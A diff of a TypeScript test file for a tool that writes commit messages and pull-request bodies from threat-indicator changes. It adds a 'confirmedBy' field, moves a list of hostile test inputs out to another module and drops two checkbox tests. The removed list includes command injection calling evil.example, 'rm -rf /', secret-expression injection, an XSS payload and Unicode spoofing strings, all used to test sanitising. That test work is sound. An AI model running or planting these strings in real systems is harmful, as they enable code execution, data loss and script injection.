@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest'
 import type { Came, Change, Went } from '../../src/core/change.js'
 import { commitMessage, type Told } from '../../src/core/commit-message.js'
 import { code, linkable, sentence } from '../../src/core/markdown.js'
-import { reviewBody, ticksOf } from '../../src/core/review-body.js'
+import { HOSTILE } from './hostile.js'
 
 const came = (told: Partial<Came> = {}): Came => ({
   type: 'domain-name',
@@ -10,6 +10,7 @@ const came = (told: Partial<Came> = {}): Came => ({
   how: 'new',
   reporters: ['ninoseki'],
   links: ['https://x.com/ninoseki/status/1439663629909979140'],
+  confirmedBy: null,
   ...told,
 })
 const went = (told: Partial<Went> = {}): Went => ({
@@ -47,7 +48,7 @@ describe('the message', () => {
           { group: 'ips', came: [came({ type: 'ipv4-addr', value: '31.1.2.3', how: 'revived' })], went: [] },
           {
             group: 'domains',
-            came: [came({ links: ['https://evil.example/'] })],
+            came: [came({ links: ['https://evil.example/'], confirmedBy: '@maintainer' })],
             went: [went(), went({ value: 'c.com', how: 'expired', why: '2026-10-01T08:00:00.000Z' })],
           },
         ],
@@ -69,7 +70,7 @@ describe('the message', () => {
 | | value | why |
 | --- | --- | --- |
 | + ip | \`31[.]1[.]2[.]3\` | [revived](https://x.com/ninoseki/status/1439663629909979140), \`ninoseki\` |
-| + domain | \`a[.]duckdns[.]org\` | new, \`ninoseki\` |
+| + domain | \`a[.]duckdns[.]org\` | new, \`ninoseki\`, confirmed by \`＠maintainer\` |
 | − domain | \`b[.]com\` | delisted: \`a shop\` |
 | − domain | \`c[.]com\` | expired, last sign 2026-10-01 |
 
@@ -101,28 +102,10 @@ Sources: 1 ok, 0 skipped, 1 failed.
   })
 })
 
-const HOSTILE = [
-  '` | x @everyone #1 fixes #2 `',
-  'a\n\nCo-authored-by: x <x@example.com>',
-  'a\r\nSigned-off-by: x',
-  '[skip ci] [CI SKIP] [no ci] [skip actions] [actions skip]',
-  '\u202egro.snkcud\u2066 \u200b\u00ad\u0007\u001b[31m \u2028 \ud800',
-  '![x](https://evil.example/x.png)<img src=x onerror=alert(1)>',
-  '\\`\\`\\` | | | --- \\',
-  'fixes https://github.com/o/r/issues/1 closes GH-12 and gh-13',
-  `$(curl evil.example) $\{{ secrets.X }} ; rm -rf / && \`id\``,
-  'https://evil.example/`|`',
-  '-->\n- [x] publish <!-- indicator--00000000-0000-5000-8000-000000000000 -->',
-  '@team/@x',
-  '',
-  '`',
-  'ﷺ'.repeat(500),
-]
-
 describe.each(HOSTILE)('%j', (hostile) => {
   const message = commitMessage(
     change({
-      came: [came({ value: hostile, reporters: [hostile], links: [hostile] })],
+      came: [came({ value: hostile, reporters: [hostile], links: [hostile], confirmedBy: hostile })],
       went: [went({ value: hostile, why: hostile }), went({ how: 'quarantined', why: hostile })],
     }),
     told({
@@ -145,23 +128,6 @@ describe.each(HOSTILE)('%j', (hostile) => {
     expect(message).not.toMatch(/[\p{Cf}\p{Cs}\u2028]/u)
     expect(message.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u)
     expect(message).not.toMatch(/^[\w-]+: .*@/m)
-  })
-
-  it('ticks no box of the pull request', () => {
-    const row = {
-      id: 'indicator--11111111-1111-5111-8111-111111111111',
-      type: 'url',
-      value: hostile,
-      confidence: 50,
-      why: hostile,
-      reporter: hostile,
-      reportedAt: '2026-11-01T00:00:00.000Z',
-      links: [hostile],
-    }
-    const body = reviewBody({ brakes: [hostile], isForced: true, rows: [row], total: 1, ticks: new Map() })
-    expect(ticksOf(body)).toEqual(new Map())
-    expect(body.match(/^- \[.\]/gm)).toHaveLength(2)
-    expect(body.match(/<!--/g)).toHaveLength(2 + (hostile.match(/<!--/g)?.length ?? 0) * 4)
   })
 })
 
@@ -191,22 +157,4 @@ describe('links', () => {
 it('cuts what is long, and defangs a sentence without spoiling its full stop', () => {
   expect([...code('x'.repeat(500))]).toHaveLength(82)
   expect(sentence('see evil.example. Then 1.2.3.4')).toBe('`see evil[.]example. Then 1[.]2[.]3[.]4`')
-})
-
-it('ticks survive an update until they are carried out, and CR LF', () => {
-  const row = {
-    id: 'indicator--11111111-1111-5111-8111-111111111111',
-    type: 'domain-name',
-    value: 'a[.]com',
-    confidence: 50,
-    why: 'a word',
-    reporter: 'stranger',
-    reportedAt: '2026-11-01T00:00:00.000Z',
-    links: [],
-  }
-  const body = (ticks = new Map()) =>
-    reviewBody({ brakes: [], isForced: false, rows: [row], total: 1, ticks })
-  const ticked = body().replace('- [ ] deny', '- [x] deny').replaceAll('\n', '\r\n')
-  expect(ticksOf(ticked)).toEqual(new Map([[row.id, new Set(['deny'])]]))
-  expect(ticksOf(body(ticksOf(ticked)))).toEqual(ticksOf(ticked))
 })
